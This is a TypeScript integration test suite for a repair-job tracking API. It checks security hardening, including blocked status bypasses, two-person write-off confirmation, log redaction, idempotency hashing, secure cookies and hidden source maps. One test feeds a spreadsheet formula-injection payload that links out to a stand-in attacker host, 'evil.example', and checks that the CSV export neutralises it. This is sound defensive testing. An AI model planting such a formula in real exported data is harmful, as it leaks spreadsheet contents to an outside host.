import { createHash, createHmac } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import Papa from 'papaparse';
import pino from 'pino';
import request from 'supertest';
import type TestAgent from 'supertest/lib/agent';
import { loggerOptions } from '../src/common/logger';
import { DEVELOPMENT_APP_SECRET, loadEnv } from '../src/config/env';
import { createSystem, repairFixtures, type RepairFixtures } from './support/repair-fixtures';
import { createTestApp, createUser, signedIn, TEST_PASSWORD, type TestContext } from './support/test-app';

/*
 * Issue 11, "No bypasses" and "Hardening": each test fails on the code before the change and passes after.
 */
describe('hardening (integration, real PostgreSQL)', () => {
  let ctx: TestContext;
  let fx: RepairFixtures;
  let admin: TestAgent;
  let ws1: TestAgent;

  beforeAll(async () => {
    ctx = await createTestApp();
    fx = await repairFixtures(ctx.db);
    admin = (await signedIn(ctx, { role: 'admin' })).agent;
    ws1 = (await signedIn(ctx, { role: 'workshop', facilityIds: [fx.ws1] })).agent;
  });
  afterAll(() => ctx.close());

  const system = (facilityId: string | null, status = 'operational') =>
    createSystem(ctx.db, { modelId: fx.modelA, donorPartnerId: fx.partnerA, facilityId, status });

  const openJob = (agent: TestAgent, systemId: string, facilityId = fx.ws1, reportedFault = 'Recoil buffer leaking') =>
    agent.post('/api/v1/repair-jobs').send({ facilityId, systemId, kind: 'corrective', reportedFault });

  describe('no bypasses', () => {
    it('sends a return to operational from degraded, in_repair or awaiting_parts through a job (409)', async () => {
      for (const status of ['degraded', 'in_repair', 'awaiting_parts']) {
        const id = await system(fx.ws1, status);
        const res = await admin.post(`/api/v1/systems/${id}/status`).send({ status: 'operational', reason: 'fine' });
        expect(res.status).toBe(409);
        expect(res.body).toMatchObject({ code: 'STATUS_NEEDS_REPAIR_JOB', from: status, to: 'operational' });
        const [row] = await ctx.db.query(`SELECT status FROM systems WHERE id = $1`, [id]);
        expect(row.status).toBe(status);
      }
      // the tried bypass: open a job, cancel it, then declare the system operational by hand
      const id = await system(fx.ws1, 'degraded');
      const job = await openJob(admin, id);
      expect(job.status).toBe(201);
      const cancel = await admin
        .post(`/api/v1/repair-jobs/${job.body.id}/transitions`)
        .send({ to: 'cancelled', comment: 'not needed', version: job.body.version });
      expect(cancel.status).toBeLessThan(300);
      const res = await admin.post(`/api/v1/systems/${id}/status`).send({ status: 'operational', reason: 'bypass' });
      expect(res.body.code).toBe('STATUS_NEEDS_REPAIR_JOB');
      // other hand changes stay allowed
      const moved = await admin.post(`/api/v1/systems/${id}/status`).send({ status: 'in_transit', reason: 'to depot' });
      expect(moved.status).toBe(200);
    });

    it('writes a system off only when a second person confirms; other changes drop the request', async () => {
      const logistics = (await signedIn(ctx, { role: 'logistics' })).agent;
      const partner = (await signedIn(ctx, { role: 'partner', partnerId: fx.partnerA })).agent;
      const id = await system(fx.ws1, 'degraded');
      const historyRows = async () =>
        (await ctx.db.query(`SELECT count(*)::int AS n FROM system_status_history WHERE system_id = $1`, [id]))[0].n;
      const before = await historyRows();

      // the first person asks: the status stays, the request is on the system
      const asked = await admin.post(`/api/v1/systems/${id}/status`).send({ status: 'written_off', reason: 'hit' });
      expect(asked.status).toBe(200);
      expect(asked.body.status).toBe('degraded');
      expect(asked.body.writeOffRequest).toMatchObject({ reason: 'hit', requestedByName: 'Test admin' });
      expect(await historyRows()).toBe(before);
      // partner users see the request, not who asked
      const seen = await partner.get(`/api/v1/systems/${id}`);
      expect(seen.body.writeOffRequest).toMatchObject({ reason: 'hit', requestedById: null, requestedByName: null });

      // the same person cannot confirm
      const again = await admin.post(`/api/v1/systems/${id}/status`).send({ status: 'written_off', reason: 'sure' });
      expect(again.status).toBe(409);
      expect(again.body.code).toBe('FOUR_EYES');
      expect((await ctx.db.query(`SELECT status FROM systems WHERE id = $1`, [id]))[0].status).toBe('degraded');

      // a second person confirms
      const confirmed = await logistics
        .post(`/api/v1/systems/${id}/status`)
        .send({ status: 'written_off', reason: 'confirmed: beyond repair' });
      expect(confirmed.status).toBe(200);
      expect(confirmed.body).toMatchObject({ status: 'written_off', writeOffRequest: null });
      expect(await historyRows()).toBe(before + 1);

      // any other status change drops a pending request
      const other = await system(fx.ws1, 'degraded');
      await admin.post(`/api/v1/systems/${other}/status`).send({ status: 'written_off', reason: 'hit' });
      const moved = await admin
        .post(`/api/v1/systems/${other}/status`)
        .send({ status: 'in_transit', reason: 'to depot' });
      expect(moved.body).toMatchObject({ status: 'in_transit', writeOffRequest: null });
      const alone = await logistics
        .post(`/api/v1/systems/${other}/status`)
        .send({ status: 'written_off', reason: 'lost at sea' });
      expect(alone.body).toMatchObject({ status: 'in_transit', writeOffRequest: { reason: 'lost at sea' } });
    });

    it('lets a workshop user open a job only on a system in the field, at their facility or at a depot', async () => {
      const atOther = await system(fx.ws2);
      const refused = await openJob(ws1, atOther);
      expect(refused.status).toBe(403);
      expect(
        (await ctx.db.query(`SELECT count(*)::int AS n FROM repair_jobs WHERE system_id = $1`, [atOther]))[0].n,
      ).toBe(0);
      for (const facilityId of [null, fx.ws1, fx.depot1])
        expect((await openJob(ws1, await system(facilityId))).status).toBe(201);
      expect((await openJob(admin, await system(fx.ws2))).status).toBe(201);
    });

    it('neutralises a formula with a newline in a job fault in GET /repair-jobs/export.csv', async () => {
      const fault = '=HYPERLINK("https://evil.example/"&C2,\n"open")';
      const job = await openJob(admin, await system(null), fx.ws1, fault);
      expect(job.status).toBe(201);
      const res = await admin.get('/api/v1/repair-jobs/export.csv');
      expect(res.status).toBe(200);
      const rows = Papa.parse<Record<string, string>>(res.text.slice(1), { header: true, skipEmptyLines: true }).data;
      const byNumber = new Map(rows.map((r) => [r['number'], r]));
      const faultColumn = Object.keys(rows[0] ?? {}).find((k) => k.includes('fault')) as string;
      expect(byNumber.get(job.body.number)?.[faultColumn]).toBe(`'${fault}`);
    });
  });

  describe('hardening', () => {
    it('reads a text/csv body only on the import routes, after authentication; elsewhere 415', async () => {
      const big = 'a'.repeat(21 * 1024 * 1024);
      // anonymous: refused before the body is read (before: 413 from the parser that ran first)
      const anonymous = await ctx.http().post('/api/v1/systems/import').set('Content-Type', 'text/csv').send(big);
      expect(anonymous.status).toBe(401);
      const users = await admin.post('/api/v1/users').set('Content-Type', 'text/csv').send('email\nx@y.example');
      expect(users.status).toBe(415);
      expect(users.body.code).toBe('UNSUPPORTED_MEDIA_TYPE');
      const dryRun = await admin
        .post('/api/v1/systems/import')
        .query({ dryRun: 'true' })
        .set('Content-Type', 'text/csv')
        .send('x\n');
      expect(dryRun.status).toBe(200);
      const tooBig = await admin.post('/api/v1/systems/import').set('Content-Type', 'text/csv').send(big);
      expect(tooBig.status).toBe(413);
    });

    it('logs a failing query without its parameters, and no secret fields', async () => {
      const lines: string[] = [];
      const sink = new Writable({
        write(chunk, _enc, done) {
          lines.push(String(chunk));
          done();
        },
      });
      const logger = pino(loggerOptions('info'), sink);
      const hash = '$argon2id$v=19$m=19456,t=2,p=1$c2VjcmV0LWhhc2gtc2FsdA$SECRETHASHVALUE';
      const totp = 'JBSWY3DPEHPK3PXPSECRETTOTP';
      const err = await ctx.db
        .query(`SELECT $1::text AS h, $2::int AS n`, [hash, totp])
        .then(() => null)
        .catch((e: unknown) => e);
      expect(err).toBeInstanceOf(Error);
      logger.error({ err, requestId: 'r1' }, 'unhandled error');
      logger.info({ body: { password: TEST_PASSWORD, totpSecret: totp }, token: 'tok-secret' }, 'request');
      const out = lines.join('');
      expect(out).toContain('unhandled error');
      expect(out).toContain('22P02');
      for (const secret of [hash, 'SECRETHASHVALUE', totp, TEST_PASSWORD, 'tok-secret'])
        expect(out).not.toContain(secret);
    });

    it('keeps an HMAC-SHA256 of the body with APP_SECRET in idempotency records, and no secrets', async () => {
      const body = {
        email: 'idem-hmac@test.example',
        displayName: 'Idem',
        role: 'viewer',
        locale: 'en',
        password: 'Idempotent-Passw0rd-42',
      };
      const res = await admin.post('/api/v1/users').set('Idempotency-Key', 'hardening-key-1').send(body);
      expect(res.status).toBe(201);
      const [row] = await ctx.db.query(
        `SELECT request_hash, response_body::text AS response FROM idempotency_keys WHERE key = 'hardening-key-1'`,
      );
      const text = `POST /api/v1/users\n${JSON.stringify(body)}`;
      expect(row.request_hash).not.toBe(createHash('sha256').update(text).digest('hex'));
      expect(row.request_hash).toBe(createHmac('sha256', DEVELOPMENT_APP_SECRET).update(text).digest('hex'));
      expect(row.response).not.toContain(body.password);
      const replay = await admin.post('/api/v1/users').set('Idempotency-Key', 'hardening-key-1').send(body);
      expect(replay.headers['idempotent-replayed']).toBe('true');
    });

    it("shows a system's open job number only to those who may see the job", async () => {
      const ws2 = (await signedIn(ctx, { role: 'workshop', facilityIds: [fx.ws2] })).agent;
      const id = await system(fx.ws2);
      const job = await openJob(admin, id, fx.ws2);
      expect(job.status).toBe(201);
      expect((await admin.get(`/api/v1/systems/${id}`)).body.openRepairJob).toMatchObject({ number: job.body.number });
      expect((await ws2.get(`/api/v1/systems/${id}`)).body.openRepairJob).toMatchObject({ number: job.body.number });
      const other = await ws1.get(`/api/v1/systems/${id}`);
      expect(other.status).toBe(200);
      expect(other.body.openRepairJob).toBeNull();
      const list = await ws1.get('/api/v1/systems').query({ limit: '100' });
      const listed = list.body.items.find((s: { id: string }) => s.id === id);
      expect(listed.openRepairJob).toBeNull();
      expect(JSON.stringify(list.body)).not.toContain(job.body.number);
    });
  });

  // each starts an app of its own, which empties the database: last
  describe('own app instances', () => {
    it('names the cookie __Host-jv_session, Secure, when COOKIE_SECURE (the production default)', async () => {
      expect(loadEnv({ NODE_ENV: 'production', APP_SECRET: 's'.repeat(32) }).COOKIE_SECURE).toBe(true);
      expect(
        loadEnv({ NODE_ENV: 'production', APP_SECRET: 's'.repeat(32), COOKIE_SECURE: 'false' }).COOKIE_SECURE,
      ).toBe(false);
      expect(loadEnv({ NODE_ENV: 'development' }).COOKIE_SECURE).toBe(false);

      const secure = await createTestApp({ COOKIE_SECURE: 'true' });
      try {
        const user = await createUser(secure.db, { role: 'viewer' });
        const login = await request(secure.app.getHttpServer())
          .post('/api/v1/auth/login')
          .send({ email: user.email, password: TEST_PASSWORD });
        expect(login.status).toBe(200);
        const cookie = ([] as string[]).concat(login.headers['set-cookie'] ?? [])[0] ?? '';
        expect(cookie).toMatch(/^__Host-jv_session=[^;]+;/);
        expect(cookie).toMatch(/; Secure/i);
        expect(cookie).toMatch(/; Path=\//);
        expect(cookie).not.toMatch(/Domain=/i);
        const me = await request(secure.app.getHttpServer())
          .get('/api/v1/auth/me')
          .set('Cookie', cookie.split(';')[0] as string);
        expect(me.status).toBe(200);
        // the plain name is not read when the cookie is Secure
        const plain = await request(secure.app.getHttpServer())
          .get('/api/v1/auth/me')
          .set('Cookie', (cookie.split(';')[0] as string).replace('__Host-', ''));
        expect(plain.status).toBe(401);
      } finally {
        await secure.close();
      }
      // plain HTTP (tests, a local demo): no prefix, not Secure
      const user = await createUser(ctx.db, { role: 'viewer' });
      const login = await ctx.http().post('/api/v1/auth/login').send({ email: user.email, password: TEST_PASSWORD });
      const cookie = ([] as string[]).concat(login.headers['set-cookie'] ?? [])[0] ?? '';
      expect(cookie).toMatch(/^jv_session=/);
      expect(cookie).not.toMatch(/; Secure/i);
    });

    it('never serves source maps', async () => {
      const dist = mkdtempSync(path.join(tmpdir(), 'jv-web-'));
      mkdirSync(path.join(dist, 'assets'));
      writeFileSync(path.join(dist, 'index.html'), '<!doctype html><title>JV</title>');
      writeFileSync(path.join(dist, 'assets', 'app.js'), 'console.log(1)');
      writeFileSync(path.join(dist, 'assets', 'app.js.map'), '{"version":3}');
      const web = await createTestApp({ WEB_DIST: dist });
      try {
        const http = request(web.app.getHttpServer());
        expect((await http.get('/assets/app.js')).status).toBe(200);
        const map = await http.get('/assets/app.js.map');
        expect(map.status).toBe(404);
        expect(map.text).not.toContain('version');
      } finally {
        await web.close();
        rmSync(dist, { recursive: true, force: true });
      }
    });
  });
});
